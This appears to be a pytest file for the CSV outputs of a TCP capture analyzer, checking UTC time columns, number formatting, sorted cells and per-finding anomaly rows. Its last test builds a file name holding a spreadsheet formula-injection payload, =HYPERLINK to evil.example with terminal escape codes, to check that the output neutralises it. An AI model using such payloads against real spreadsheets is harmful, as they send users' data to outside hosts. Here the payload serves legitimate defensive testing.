"""The CSV outputs (issue #15): ISO 8601 UTC beside the epoch times, seconds
never in exponent notation, multi-value cells in one order, and
``--format csv --anomalies``: one row per finding.  Read back with Python's
csv module, on the kernel-made samples and the public corpus."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
from pathlib import Path

import pytest

from clirun import invoke
from pcapgen import Trace
from tcpflow_analyze.model.text import printable
from tcpflow_analyze.views.record import LEAVES, TIME, csv_time

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "sample_pcaps"
PUBLIC = ROOT.parent / "shared" / "pcaps" / "public"

NUMBER = re.compile(r"-?\d+(\.\d+)?")
ISO_UTC = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
# The record's seconds, as their CSV columns are named.
TIME_COLUMNS = [leaf.csv for leaf in LEAVES if leaf.field.kind == TIME]
# What no text output may carry (as tests/test_text_escaping.py).
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")

KERNEL = sorted(str(p) for p in SAMPLES.glob("*.pcap*"))
# Public captures with sub-0.1 ms durations or handshakes (1e-05 territory).
PUBLIC_TINY = ["gopacket-test-loopback.pcap", "zeek-ipv6-http-atomic-frag.pcap", "zeek-tcp-retransmit-fast.pcap",
               "suricata-tcp-zero-window-mqtt.pcap", "zeek-tcp-ssh-dups.pcap"]


def public(name: str) -> str:
    path = PUBLIC / name
    if not path.exists():
        pytest.skip("the public corpus (../shared/pcaps/public) is absent")
    return str(path)


def csv_rows(*args) -> tuple[list[str], list[dict]]:
    res = invoke("analyze", "--format", "csv", *args)
    assert res.code == 0, res.stderr
    reader = csv.DictReader(io.StringIO(res.stdout))
    rows = list(reader)
    return reader.fieldnames, rows


def report(*args) -> dict:
    res = invoke("analyze", "--format", "json", *args)
    assert res.code == 0, res.stderr
    return json.loads(res.stdout)


def iso_seconds(text: str) -> float:
    return dt.datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


# ---------------------------------------------------------------------- connections
@pytest.mark.parametrize("capture", ["time_wait_storm.pcap", "ipv6.pcap", "zeek-ipv6-http-atomic-frag.pcap"])
def test_utc_columns_beside_the_epoch_ones(capture):
    path = str(SAMPLES / capture) if (SAMPLES / capture).exists() else public(capture)
    columns, rows = csv_rows(path)
    conns = report(path)["connections"]
    for name in ("first_seen", "last_seen"):
        assert columns[columns.index(name) + 1] == f"{name}_utc"
        for row, conn in zip(rows, conns, strict=True):
            assert ISO_UTC.fullmatch(row[f"{name}_utc"]), row[f"{name}_utc"]
            # The same microsecond as the epoch column and the JSON.
            assert round(iso_seconds(row[f"{name}_utc"]), 6) == float(row[name]) == conn[name]


def test_utc_text_of_a_known_moment():
    # The example: microseconds kept, zone written as Z.
    from tcpflow_analyze.model.text import iso_utc
    assert iso_utc(1704067200.000502) == "2024-01-01T00:00:00.000502Z"
    assert iso_utc(None) == "" and iso_utc(1e300) == ""


@pytest.mark.parametrize("capture", KERNEL + PUBLIC_TINY)
def test_seconds_never_in_exponent_notation(capture):
    path = capture if os.path.isabs(capture) else public(capture)
    columns, rows = csv_rows(path)
    conns = report(path)["connections"]
    assert set(TIME_COLUMNS) <= set(columns)
    tiny = 0
    for row, conn in zip(rows, conns, strict=True):
        for name in TIME_COLUMNS:
            cell = row[name]
            assert cell == "" or NUMBER.fullmatch(cell), (name, cell)
            value = conn[name]
            assert (cell == "") == (value is None)
            if value is not None:
                assert float(cell) == value
                tiny += 0 < value < 1e-4
    if capture in PUBLIC_TINY or capture.endswith("time_wait_storm.pcap"):
        assert tiny, "no sub-0.1 ms value to write: the capture no longer tests the point"


def test_csv_time():
    assert csv_time(1e-05) == "0.00001" and csv_time(1.7e-05) == "0.000017"
    assert csv_time(1795567373.952977) == "1795567373.952977" and csv_time(2.5) == "2.5"
    assert csv_time(0.0) == csv_time(-0.0) == "0" and csv_time(None) == ""


@pytest.mark.parametrize("args, cell", [
    # The report names them lingering_close_wait, half_open, reset_storm.
    (["--reset-storm-count", "1", "--close-wait-timeout", "0.001", "zeek-tcp-fin-retransmission.pcap"],
     "half_open;lingering_close_wait;reset_storm"),
])
def test_a_multi_value_cell_is_sorted(args, cell):
    if not args[-1].startswith("/"):
        args = args[:-1] + [public(args[-1])]
    _, rows = csv_rows(*args)
    conns = report(*args)["connections"]
    assert rows[0]["anomalies"] == cell
    for row, conn in zip(rows, conns, strict=True):
        types = row["anomalies"].split(";") if row["anomalies"] else []
        assert types == sorted(conn["anomalies"])


# ---------------------------------------------------------------------- one row per finding
def finding_rows(*args) -> tuple[list[str], list[dict]]:
    return csv_rows("--anomalies", *args)


def test_one_row_per_finding_worst_first():
    captures = [str(SAMPLES / f"{s}.pcap") for s in ("port_reuse", "close_wait_leak", "syn_flood")]
    columns, rows = finding_rows(*captures)
    assert columns[:4] == ["type", "severity", "time", "time_utc"]
    assert {"service", "host", "source", "count", "connections", "message"} <= set(columns)
    rep = report(*captures)
    assert len(rows) == len(rep["anomalies"]) == 3
    assert [r["type"] for r in rows] == ["half_open", "lingering_close_wait", "port_reuse_in_time_wait"]
    assert [r["severity"] for r in rows] == ["critical", "warning", "info"]
    by_message = {a["message"]: a for a in rep["anomalies"]}
    for row in rows:
        a = by_message[row["message"]]
        assert row["type"] == a["type"] and float(row["time"]) == a["time"]
        assert round(iso_seconds(row["time_utc"]), 6) == a["time"]
        assert [int(i) for i in row["connections"].split()] == sorted(a["connections"])
        assert int(row["count"]) == a["details"].get("count", 1)
        assert row["service"] == a["details"].get("service", "")
    flood = rows[0]
    assert flood["service"] == "10.201.0.2:8080" and flood["count"] == "300"
    assert len(flood["connections"].split()) == 300  # every one, not a sample


@pytest.mark.parametrize("capture", ["suricata-tcp-syn-flood.pcap", "zeek-http-206-zero-window.pcap",
                                     "synthetic-cut-mid-record.pcap", "tcpdump-empty.pcapng"])
def test_findings_csv_on_public_captures(capture):
    path = public(capture)
    _, rows = finding_rows(path)
    rep = report(path)
    notices = rep["summary"]["notices"]
    # A damaged or partly seen capture says so in the first rows.
    assert [r["type"] for r in rows[:len(notices)]] == [n["kind"] for n in notices]
    assert all(r["severity"] == "notice" for r in rows[:len(notices)])
    found = rows[len(notices):]
    assert sorted(r["message"] for r in found) == sorted(a["message"] for a in rep["anomalies"])
    assert rows, "nothing to read: the capture no longer tests the point"


def test_findings_csv_obeys_min_severity():
    path = str(SAMPLES / "port_reuse.pcap")
    assert [r["severity"] for r in finding_rows(path)[1]] == ["info"]
    assert finding_rows("--min-severity", "warning", path)[1] == []


def test_anomalies_is_for_csv(tmp_path):
    res = invoke("analyze", "--anomalies", str(tmp_path / "missing.pcap"))
    assert res.code == 2 and res.stdout == ""
    assert res.stderr.strip() == ("tcpflow-analyze: error: --anomalies is for --format csv "
                                  "(the other formats list the findings already)")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_formula_in_a_file_name_stays_text(tmp_path, monkeypatch, start):
    # A truncated capture: its notice row names the file first.  A cell that
    # starts with = + - @ is a formula to a spreadsheet (=HYPERLINK ... sends
    # data away): it is quoted, and control characters escaped.
    monkeypatch.chdir(tmp_path)
    name = f'{start}HYPERLINK("evil.example?"&A1)\x1b[2J\x07.pcap'
    t = Trace().handshake()
    t.c("FA", 1001, 5001).s("FA", 5001, 1002).c("A", 1002, 5002)
    t.write(name)
    with open(name, "r+b") as fh:
        fh.truncate(os.path.getsize(name) - 10)
    res = invoke("analyze", "--format", "csv", "--anomalies", "--", name)
    assert res.code == 0, res.stderr
    assert not UNSAFE.findall(res.stdout.replace("\n", ""))
    [row] = list(csv.DictReader(io.StringIO(res.stdout)))
    assert row["type"] == "truncated" and row["severity"] == "notice"
    assert row["message"].startswith("'" + printable(name))
